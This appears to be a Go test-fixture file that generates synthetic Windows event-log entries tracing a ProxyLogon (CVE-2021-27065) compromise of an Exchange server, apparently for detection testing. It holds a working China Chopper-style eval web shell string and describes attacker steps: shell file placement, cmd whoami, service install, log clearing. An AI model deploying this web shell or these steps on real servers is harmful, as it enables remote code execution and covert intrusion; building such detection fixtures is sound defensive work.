package evtxwrite

import "time"

// OabWebShellURL is an ExternalUrl carrying the script of the ProxyLogon
// CVE-2021-27065 exploit: the OAB virtual directory is exported into an .aspx
// file, which then runs the script.
const OabWebShellURL = `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>`

// namedEvent is a named example event.
type namedEvent struct {
	Name  string // short name for test tables
	Event Event
}

// exampleEvents returns one of each example event, a second apart from t, for an
// Exchange server named computer: a ProxyLogon intrusion's trace in the
// event logs. Events of different logs belong in different files.
func exampleEvents(t time.Time, computer string) []namedEvent {
	w3wp := `C:\Windows\System32\inetsrv\w3wp.exe`
	cmd := `C:\Windows\System32\cmd.exe`
	shell := `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\RedirSuiteServerProxy.aspx`
	at := func(i int) time.Time { return t.Add(time.Duration(i) * time.Second) }
	return []namedEvent{
		{"um-invalid-cast", UMInvalidCast(at(0), computer)},
		{"set-oab-vdir-script", SetOabVirtualDirectoryWebShell(at(1), computer, OabWebShellURL)},
		{"sysmon-file-create-webshell", SysmonFileCreate(at(2), computer, w3wp, shell)},
		{"security-4688-w3wp-cmd", ProcessCreation(at(3), computer, w3wp, cmd, `cmd /c whoami`)},
		{"sysmon-1-w3wp-cmd", SysmonProcessCreate(at(4), computer, w3wp, cmd, `cmd /c whoami`)},
		{"defender-1116-chopper", DefenderDetection(at(5), computer, 1116, "Backdoor:ASP/Chopper.F!dha", shell)},
		{"defender-1117-chopper", DefenderDetection(at(6), computer, 1117, "Backdoor:ASP/Chopper.F!dha", shell)},
		{"system-7045-service", ServiceInstalled(at(7), computer, "KgXItsbKgTJzdzwl", `%SYSTEMROOT%\duKhLYUX.exe`)},
		{"system-104-cleared", SystemLogCleared(at(8), computer, "Administrator", "CORP")},
		{"security-1102-cleared", SecurityLogCleared(at(9), computer, "Administrator", "CORP")},
	}
}
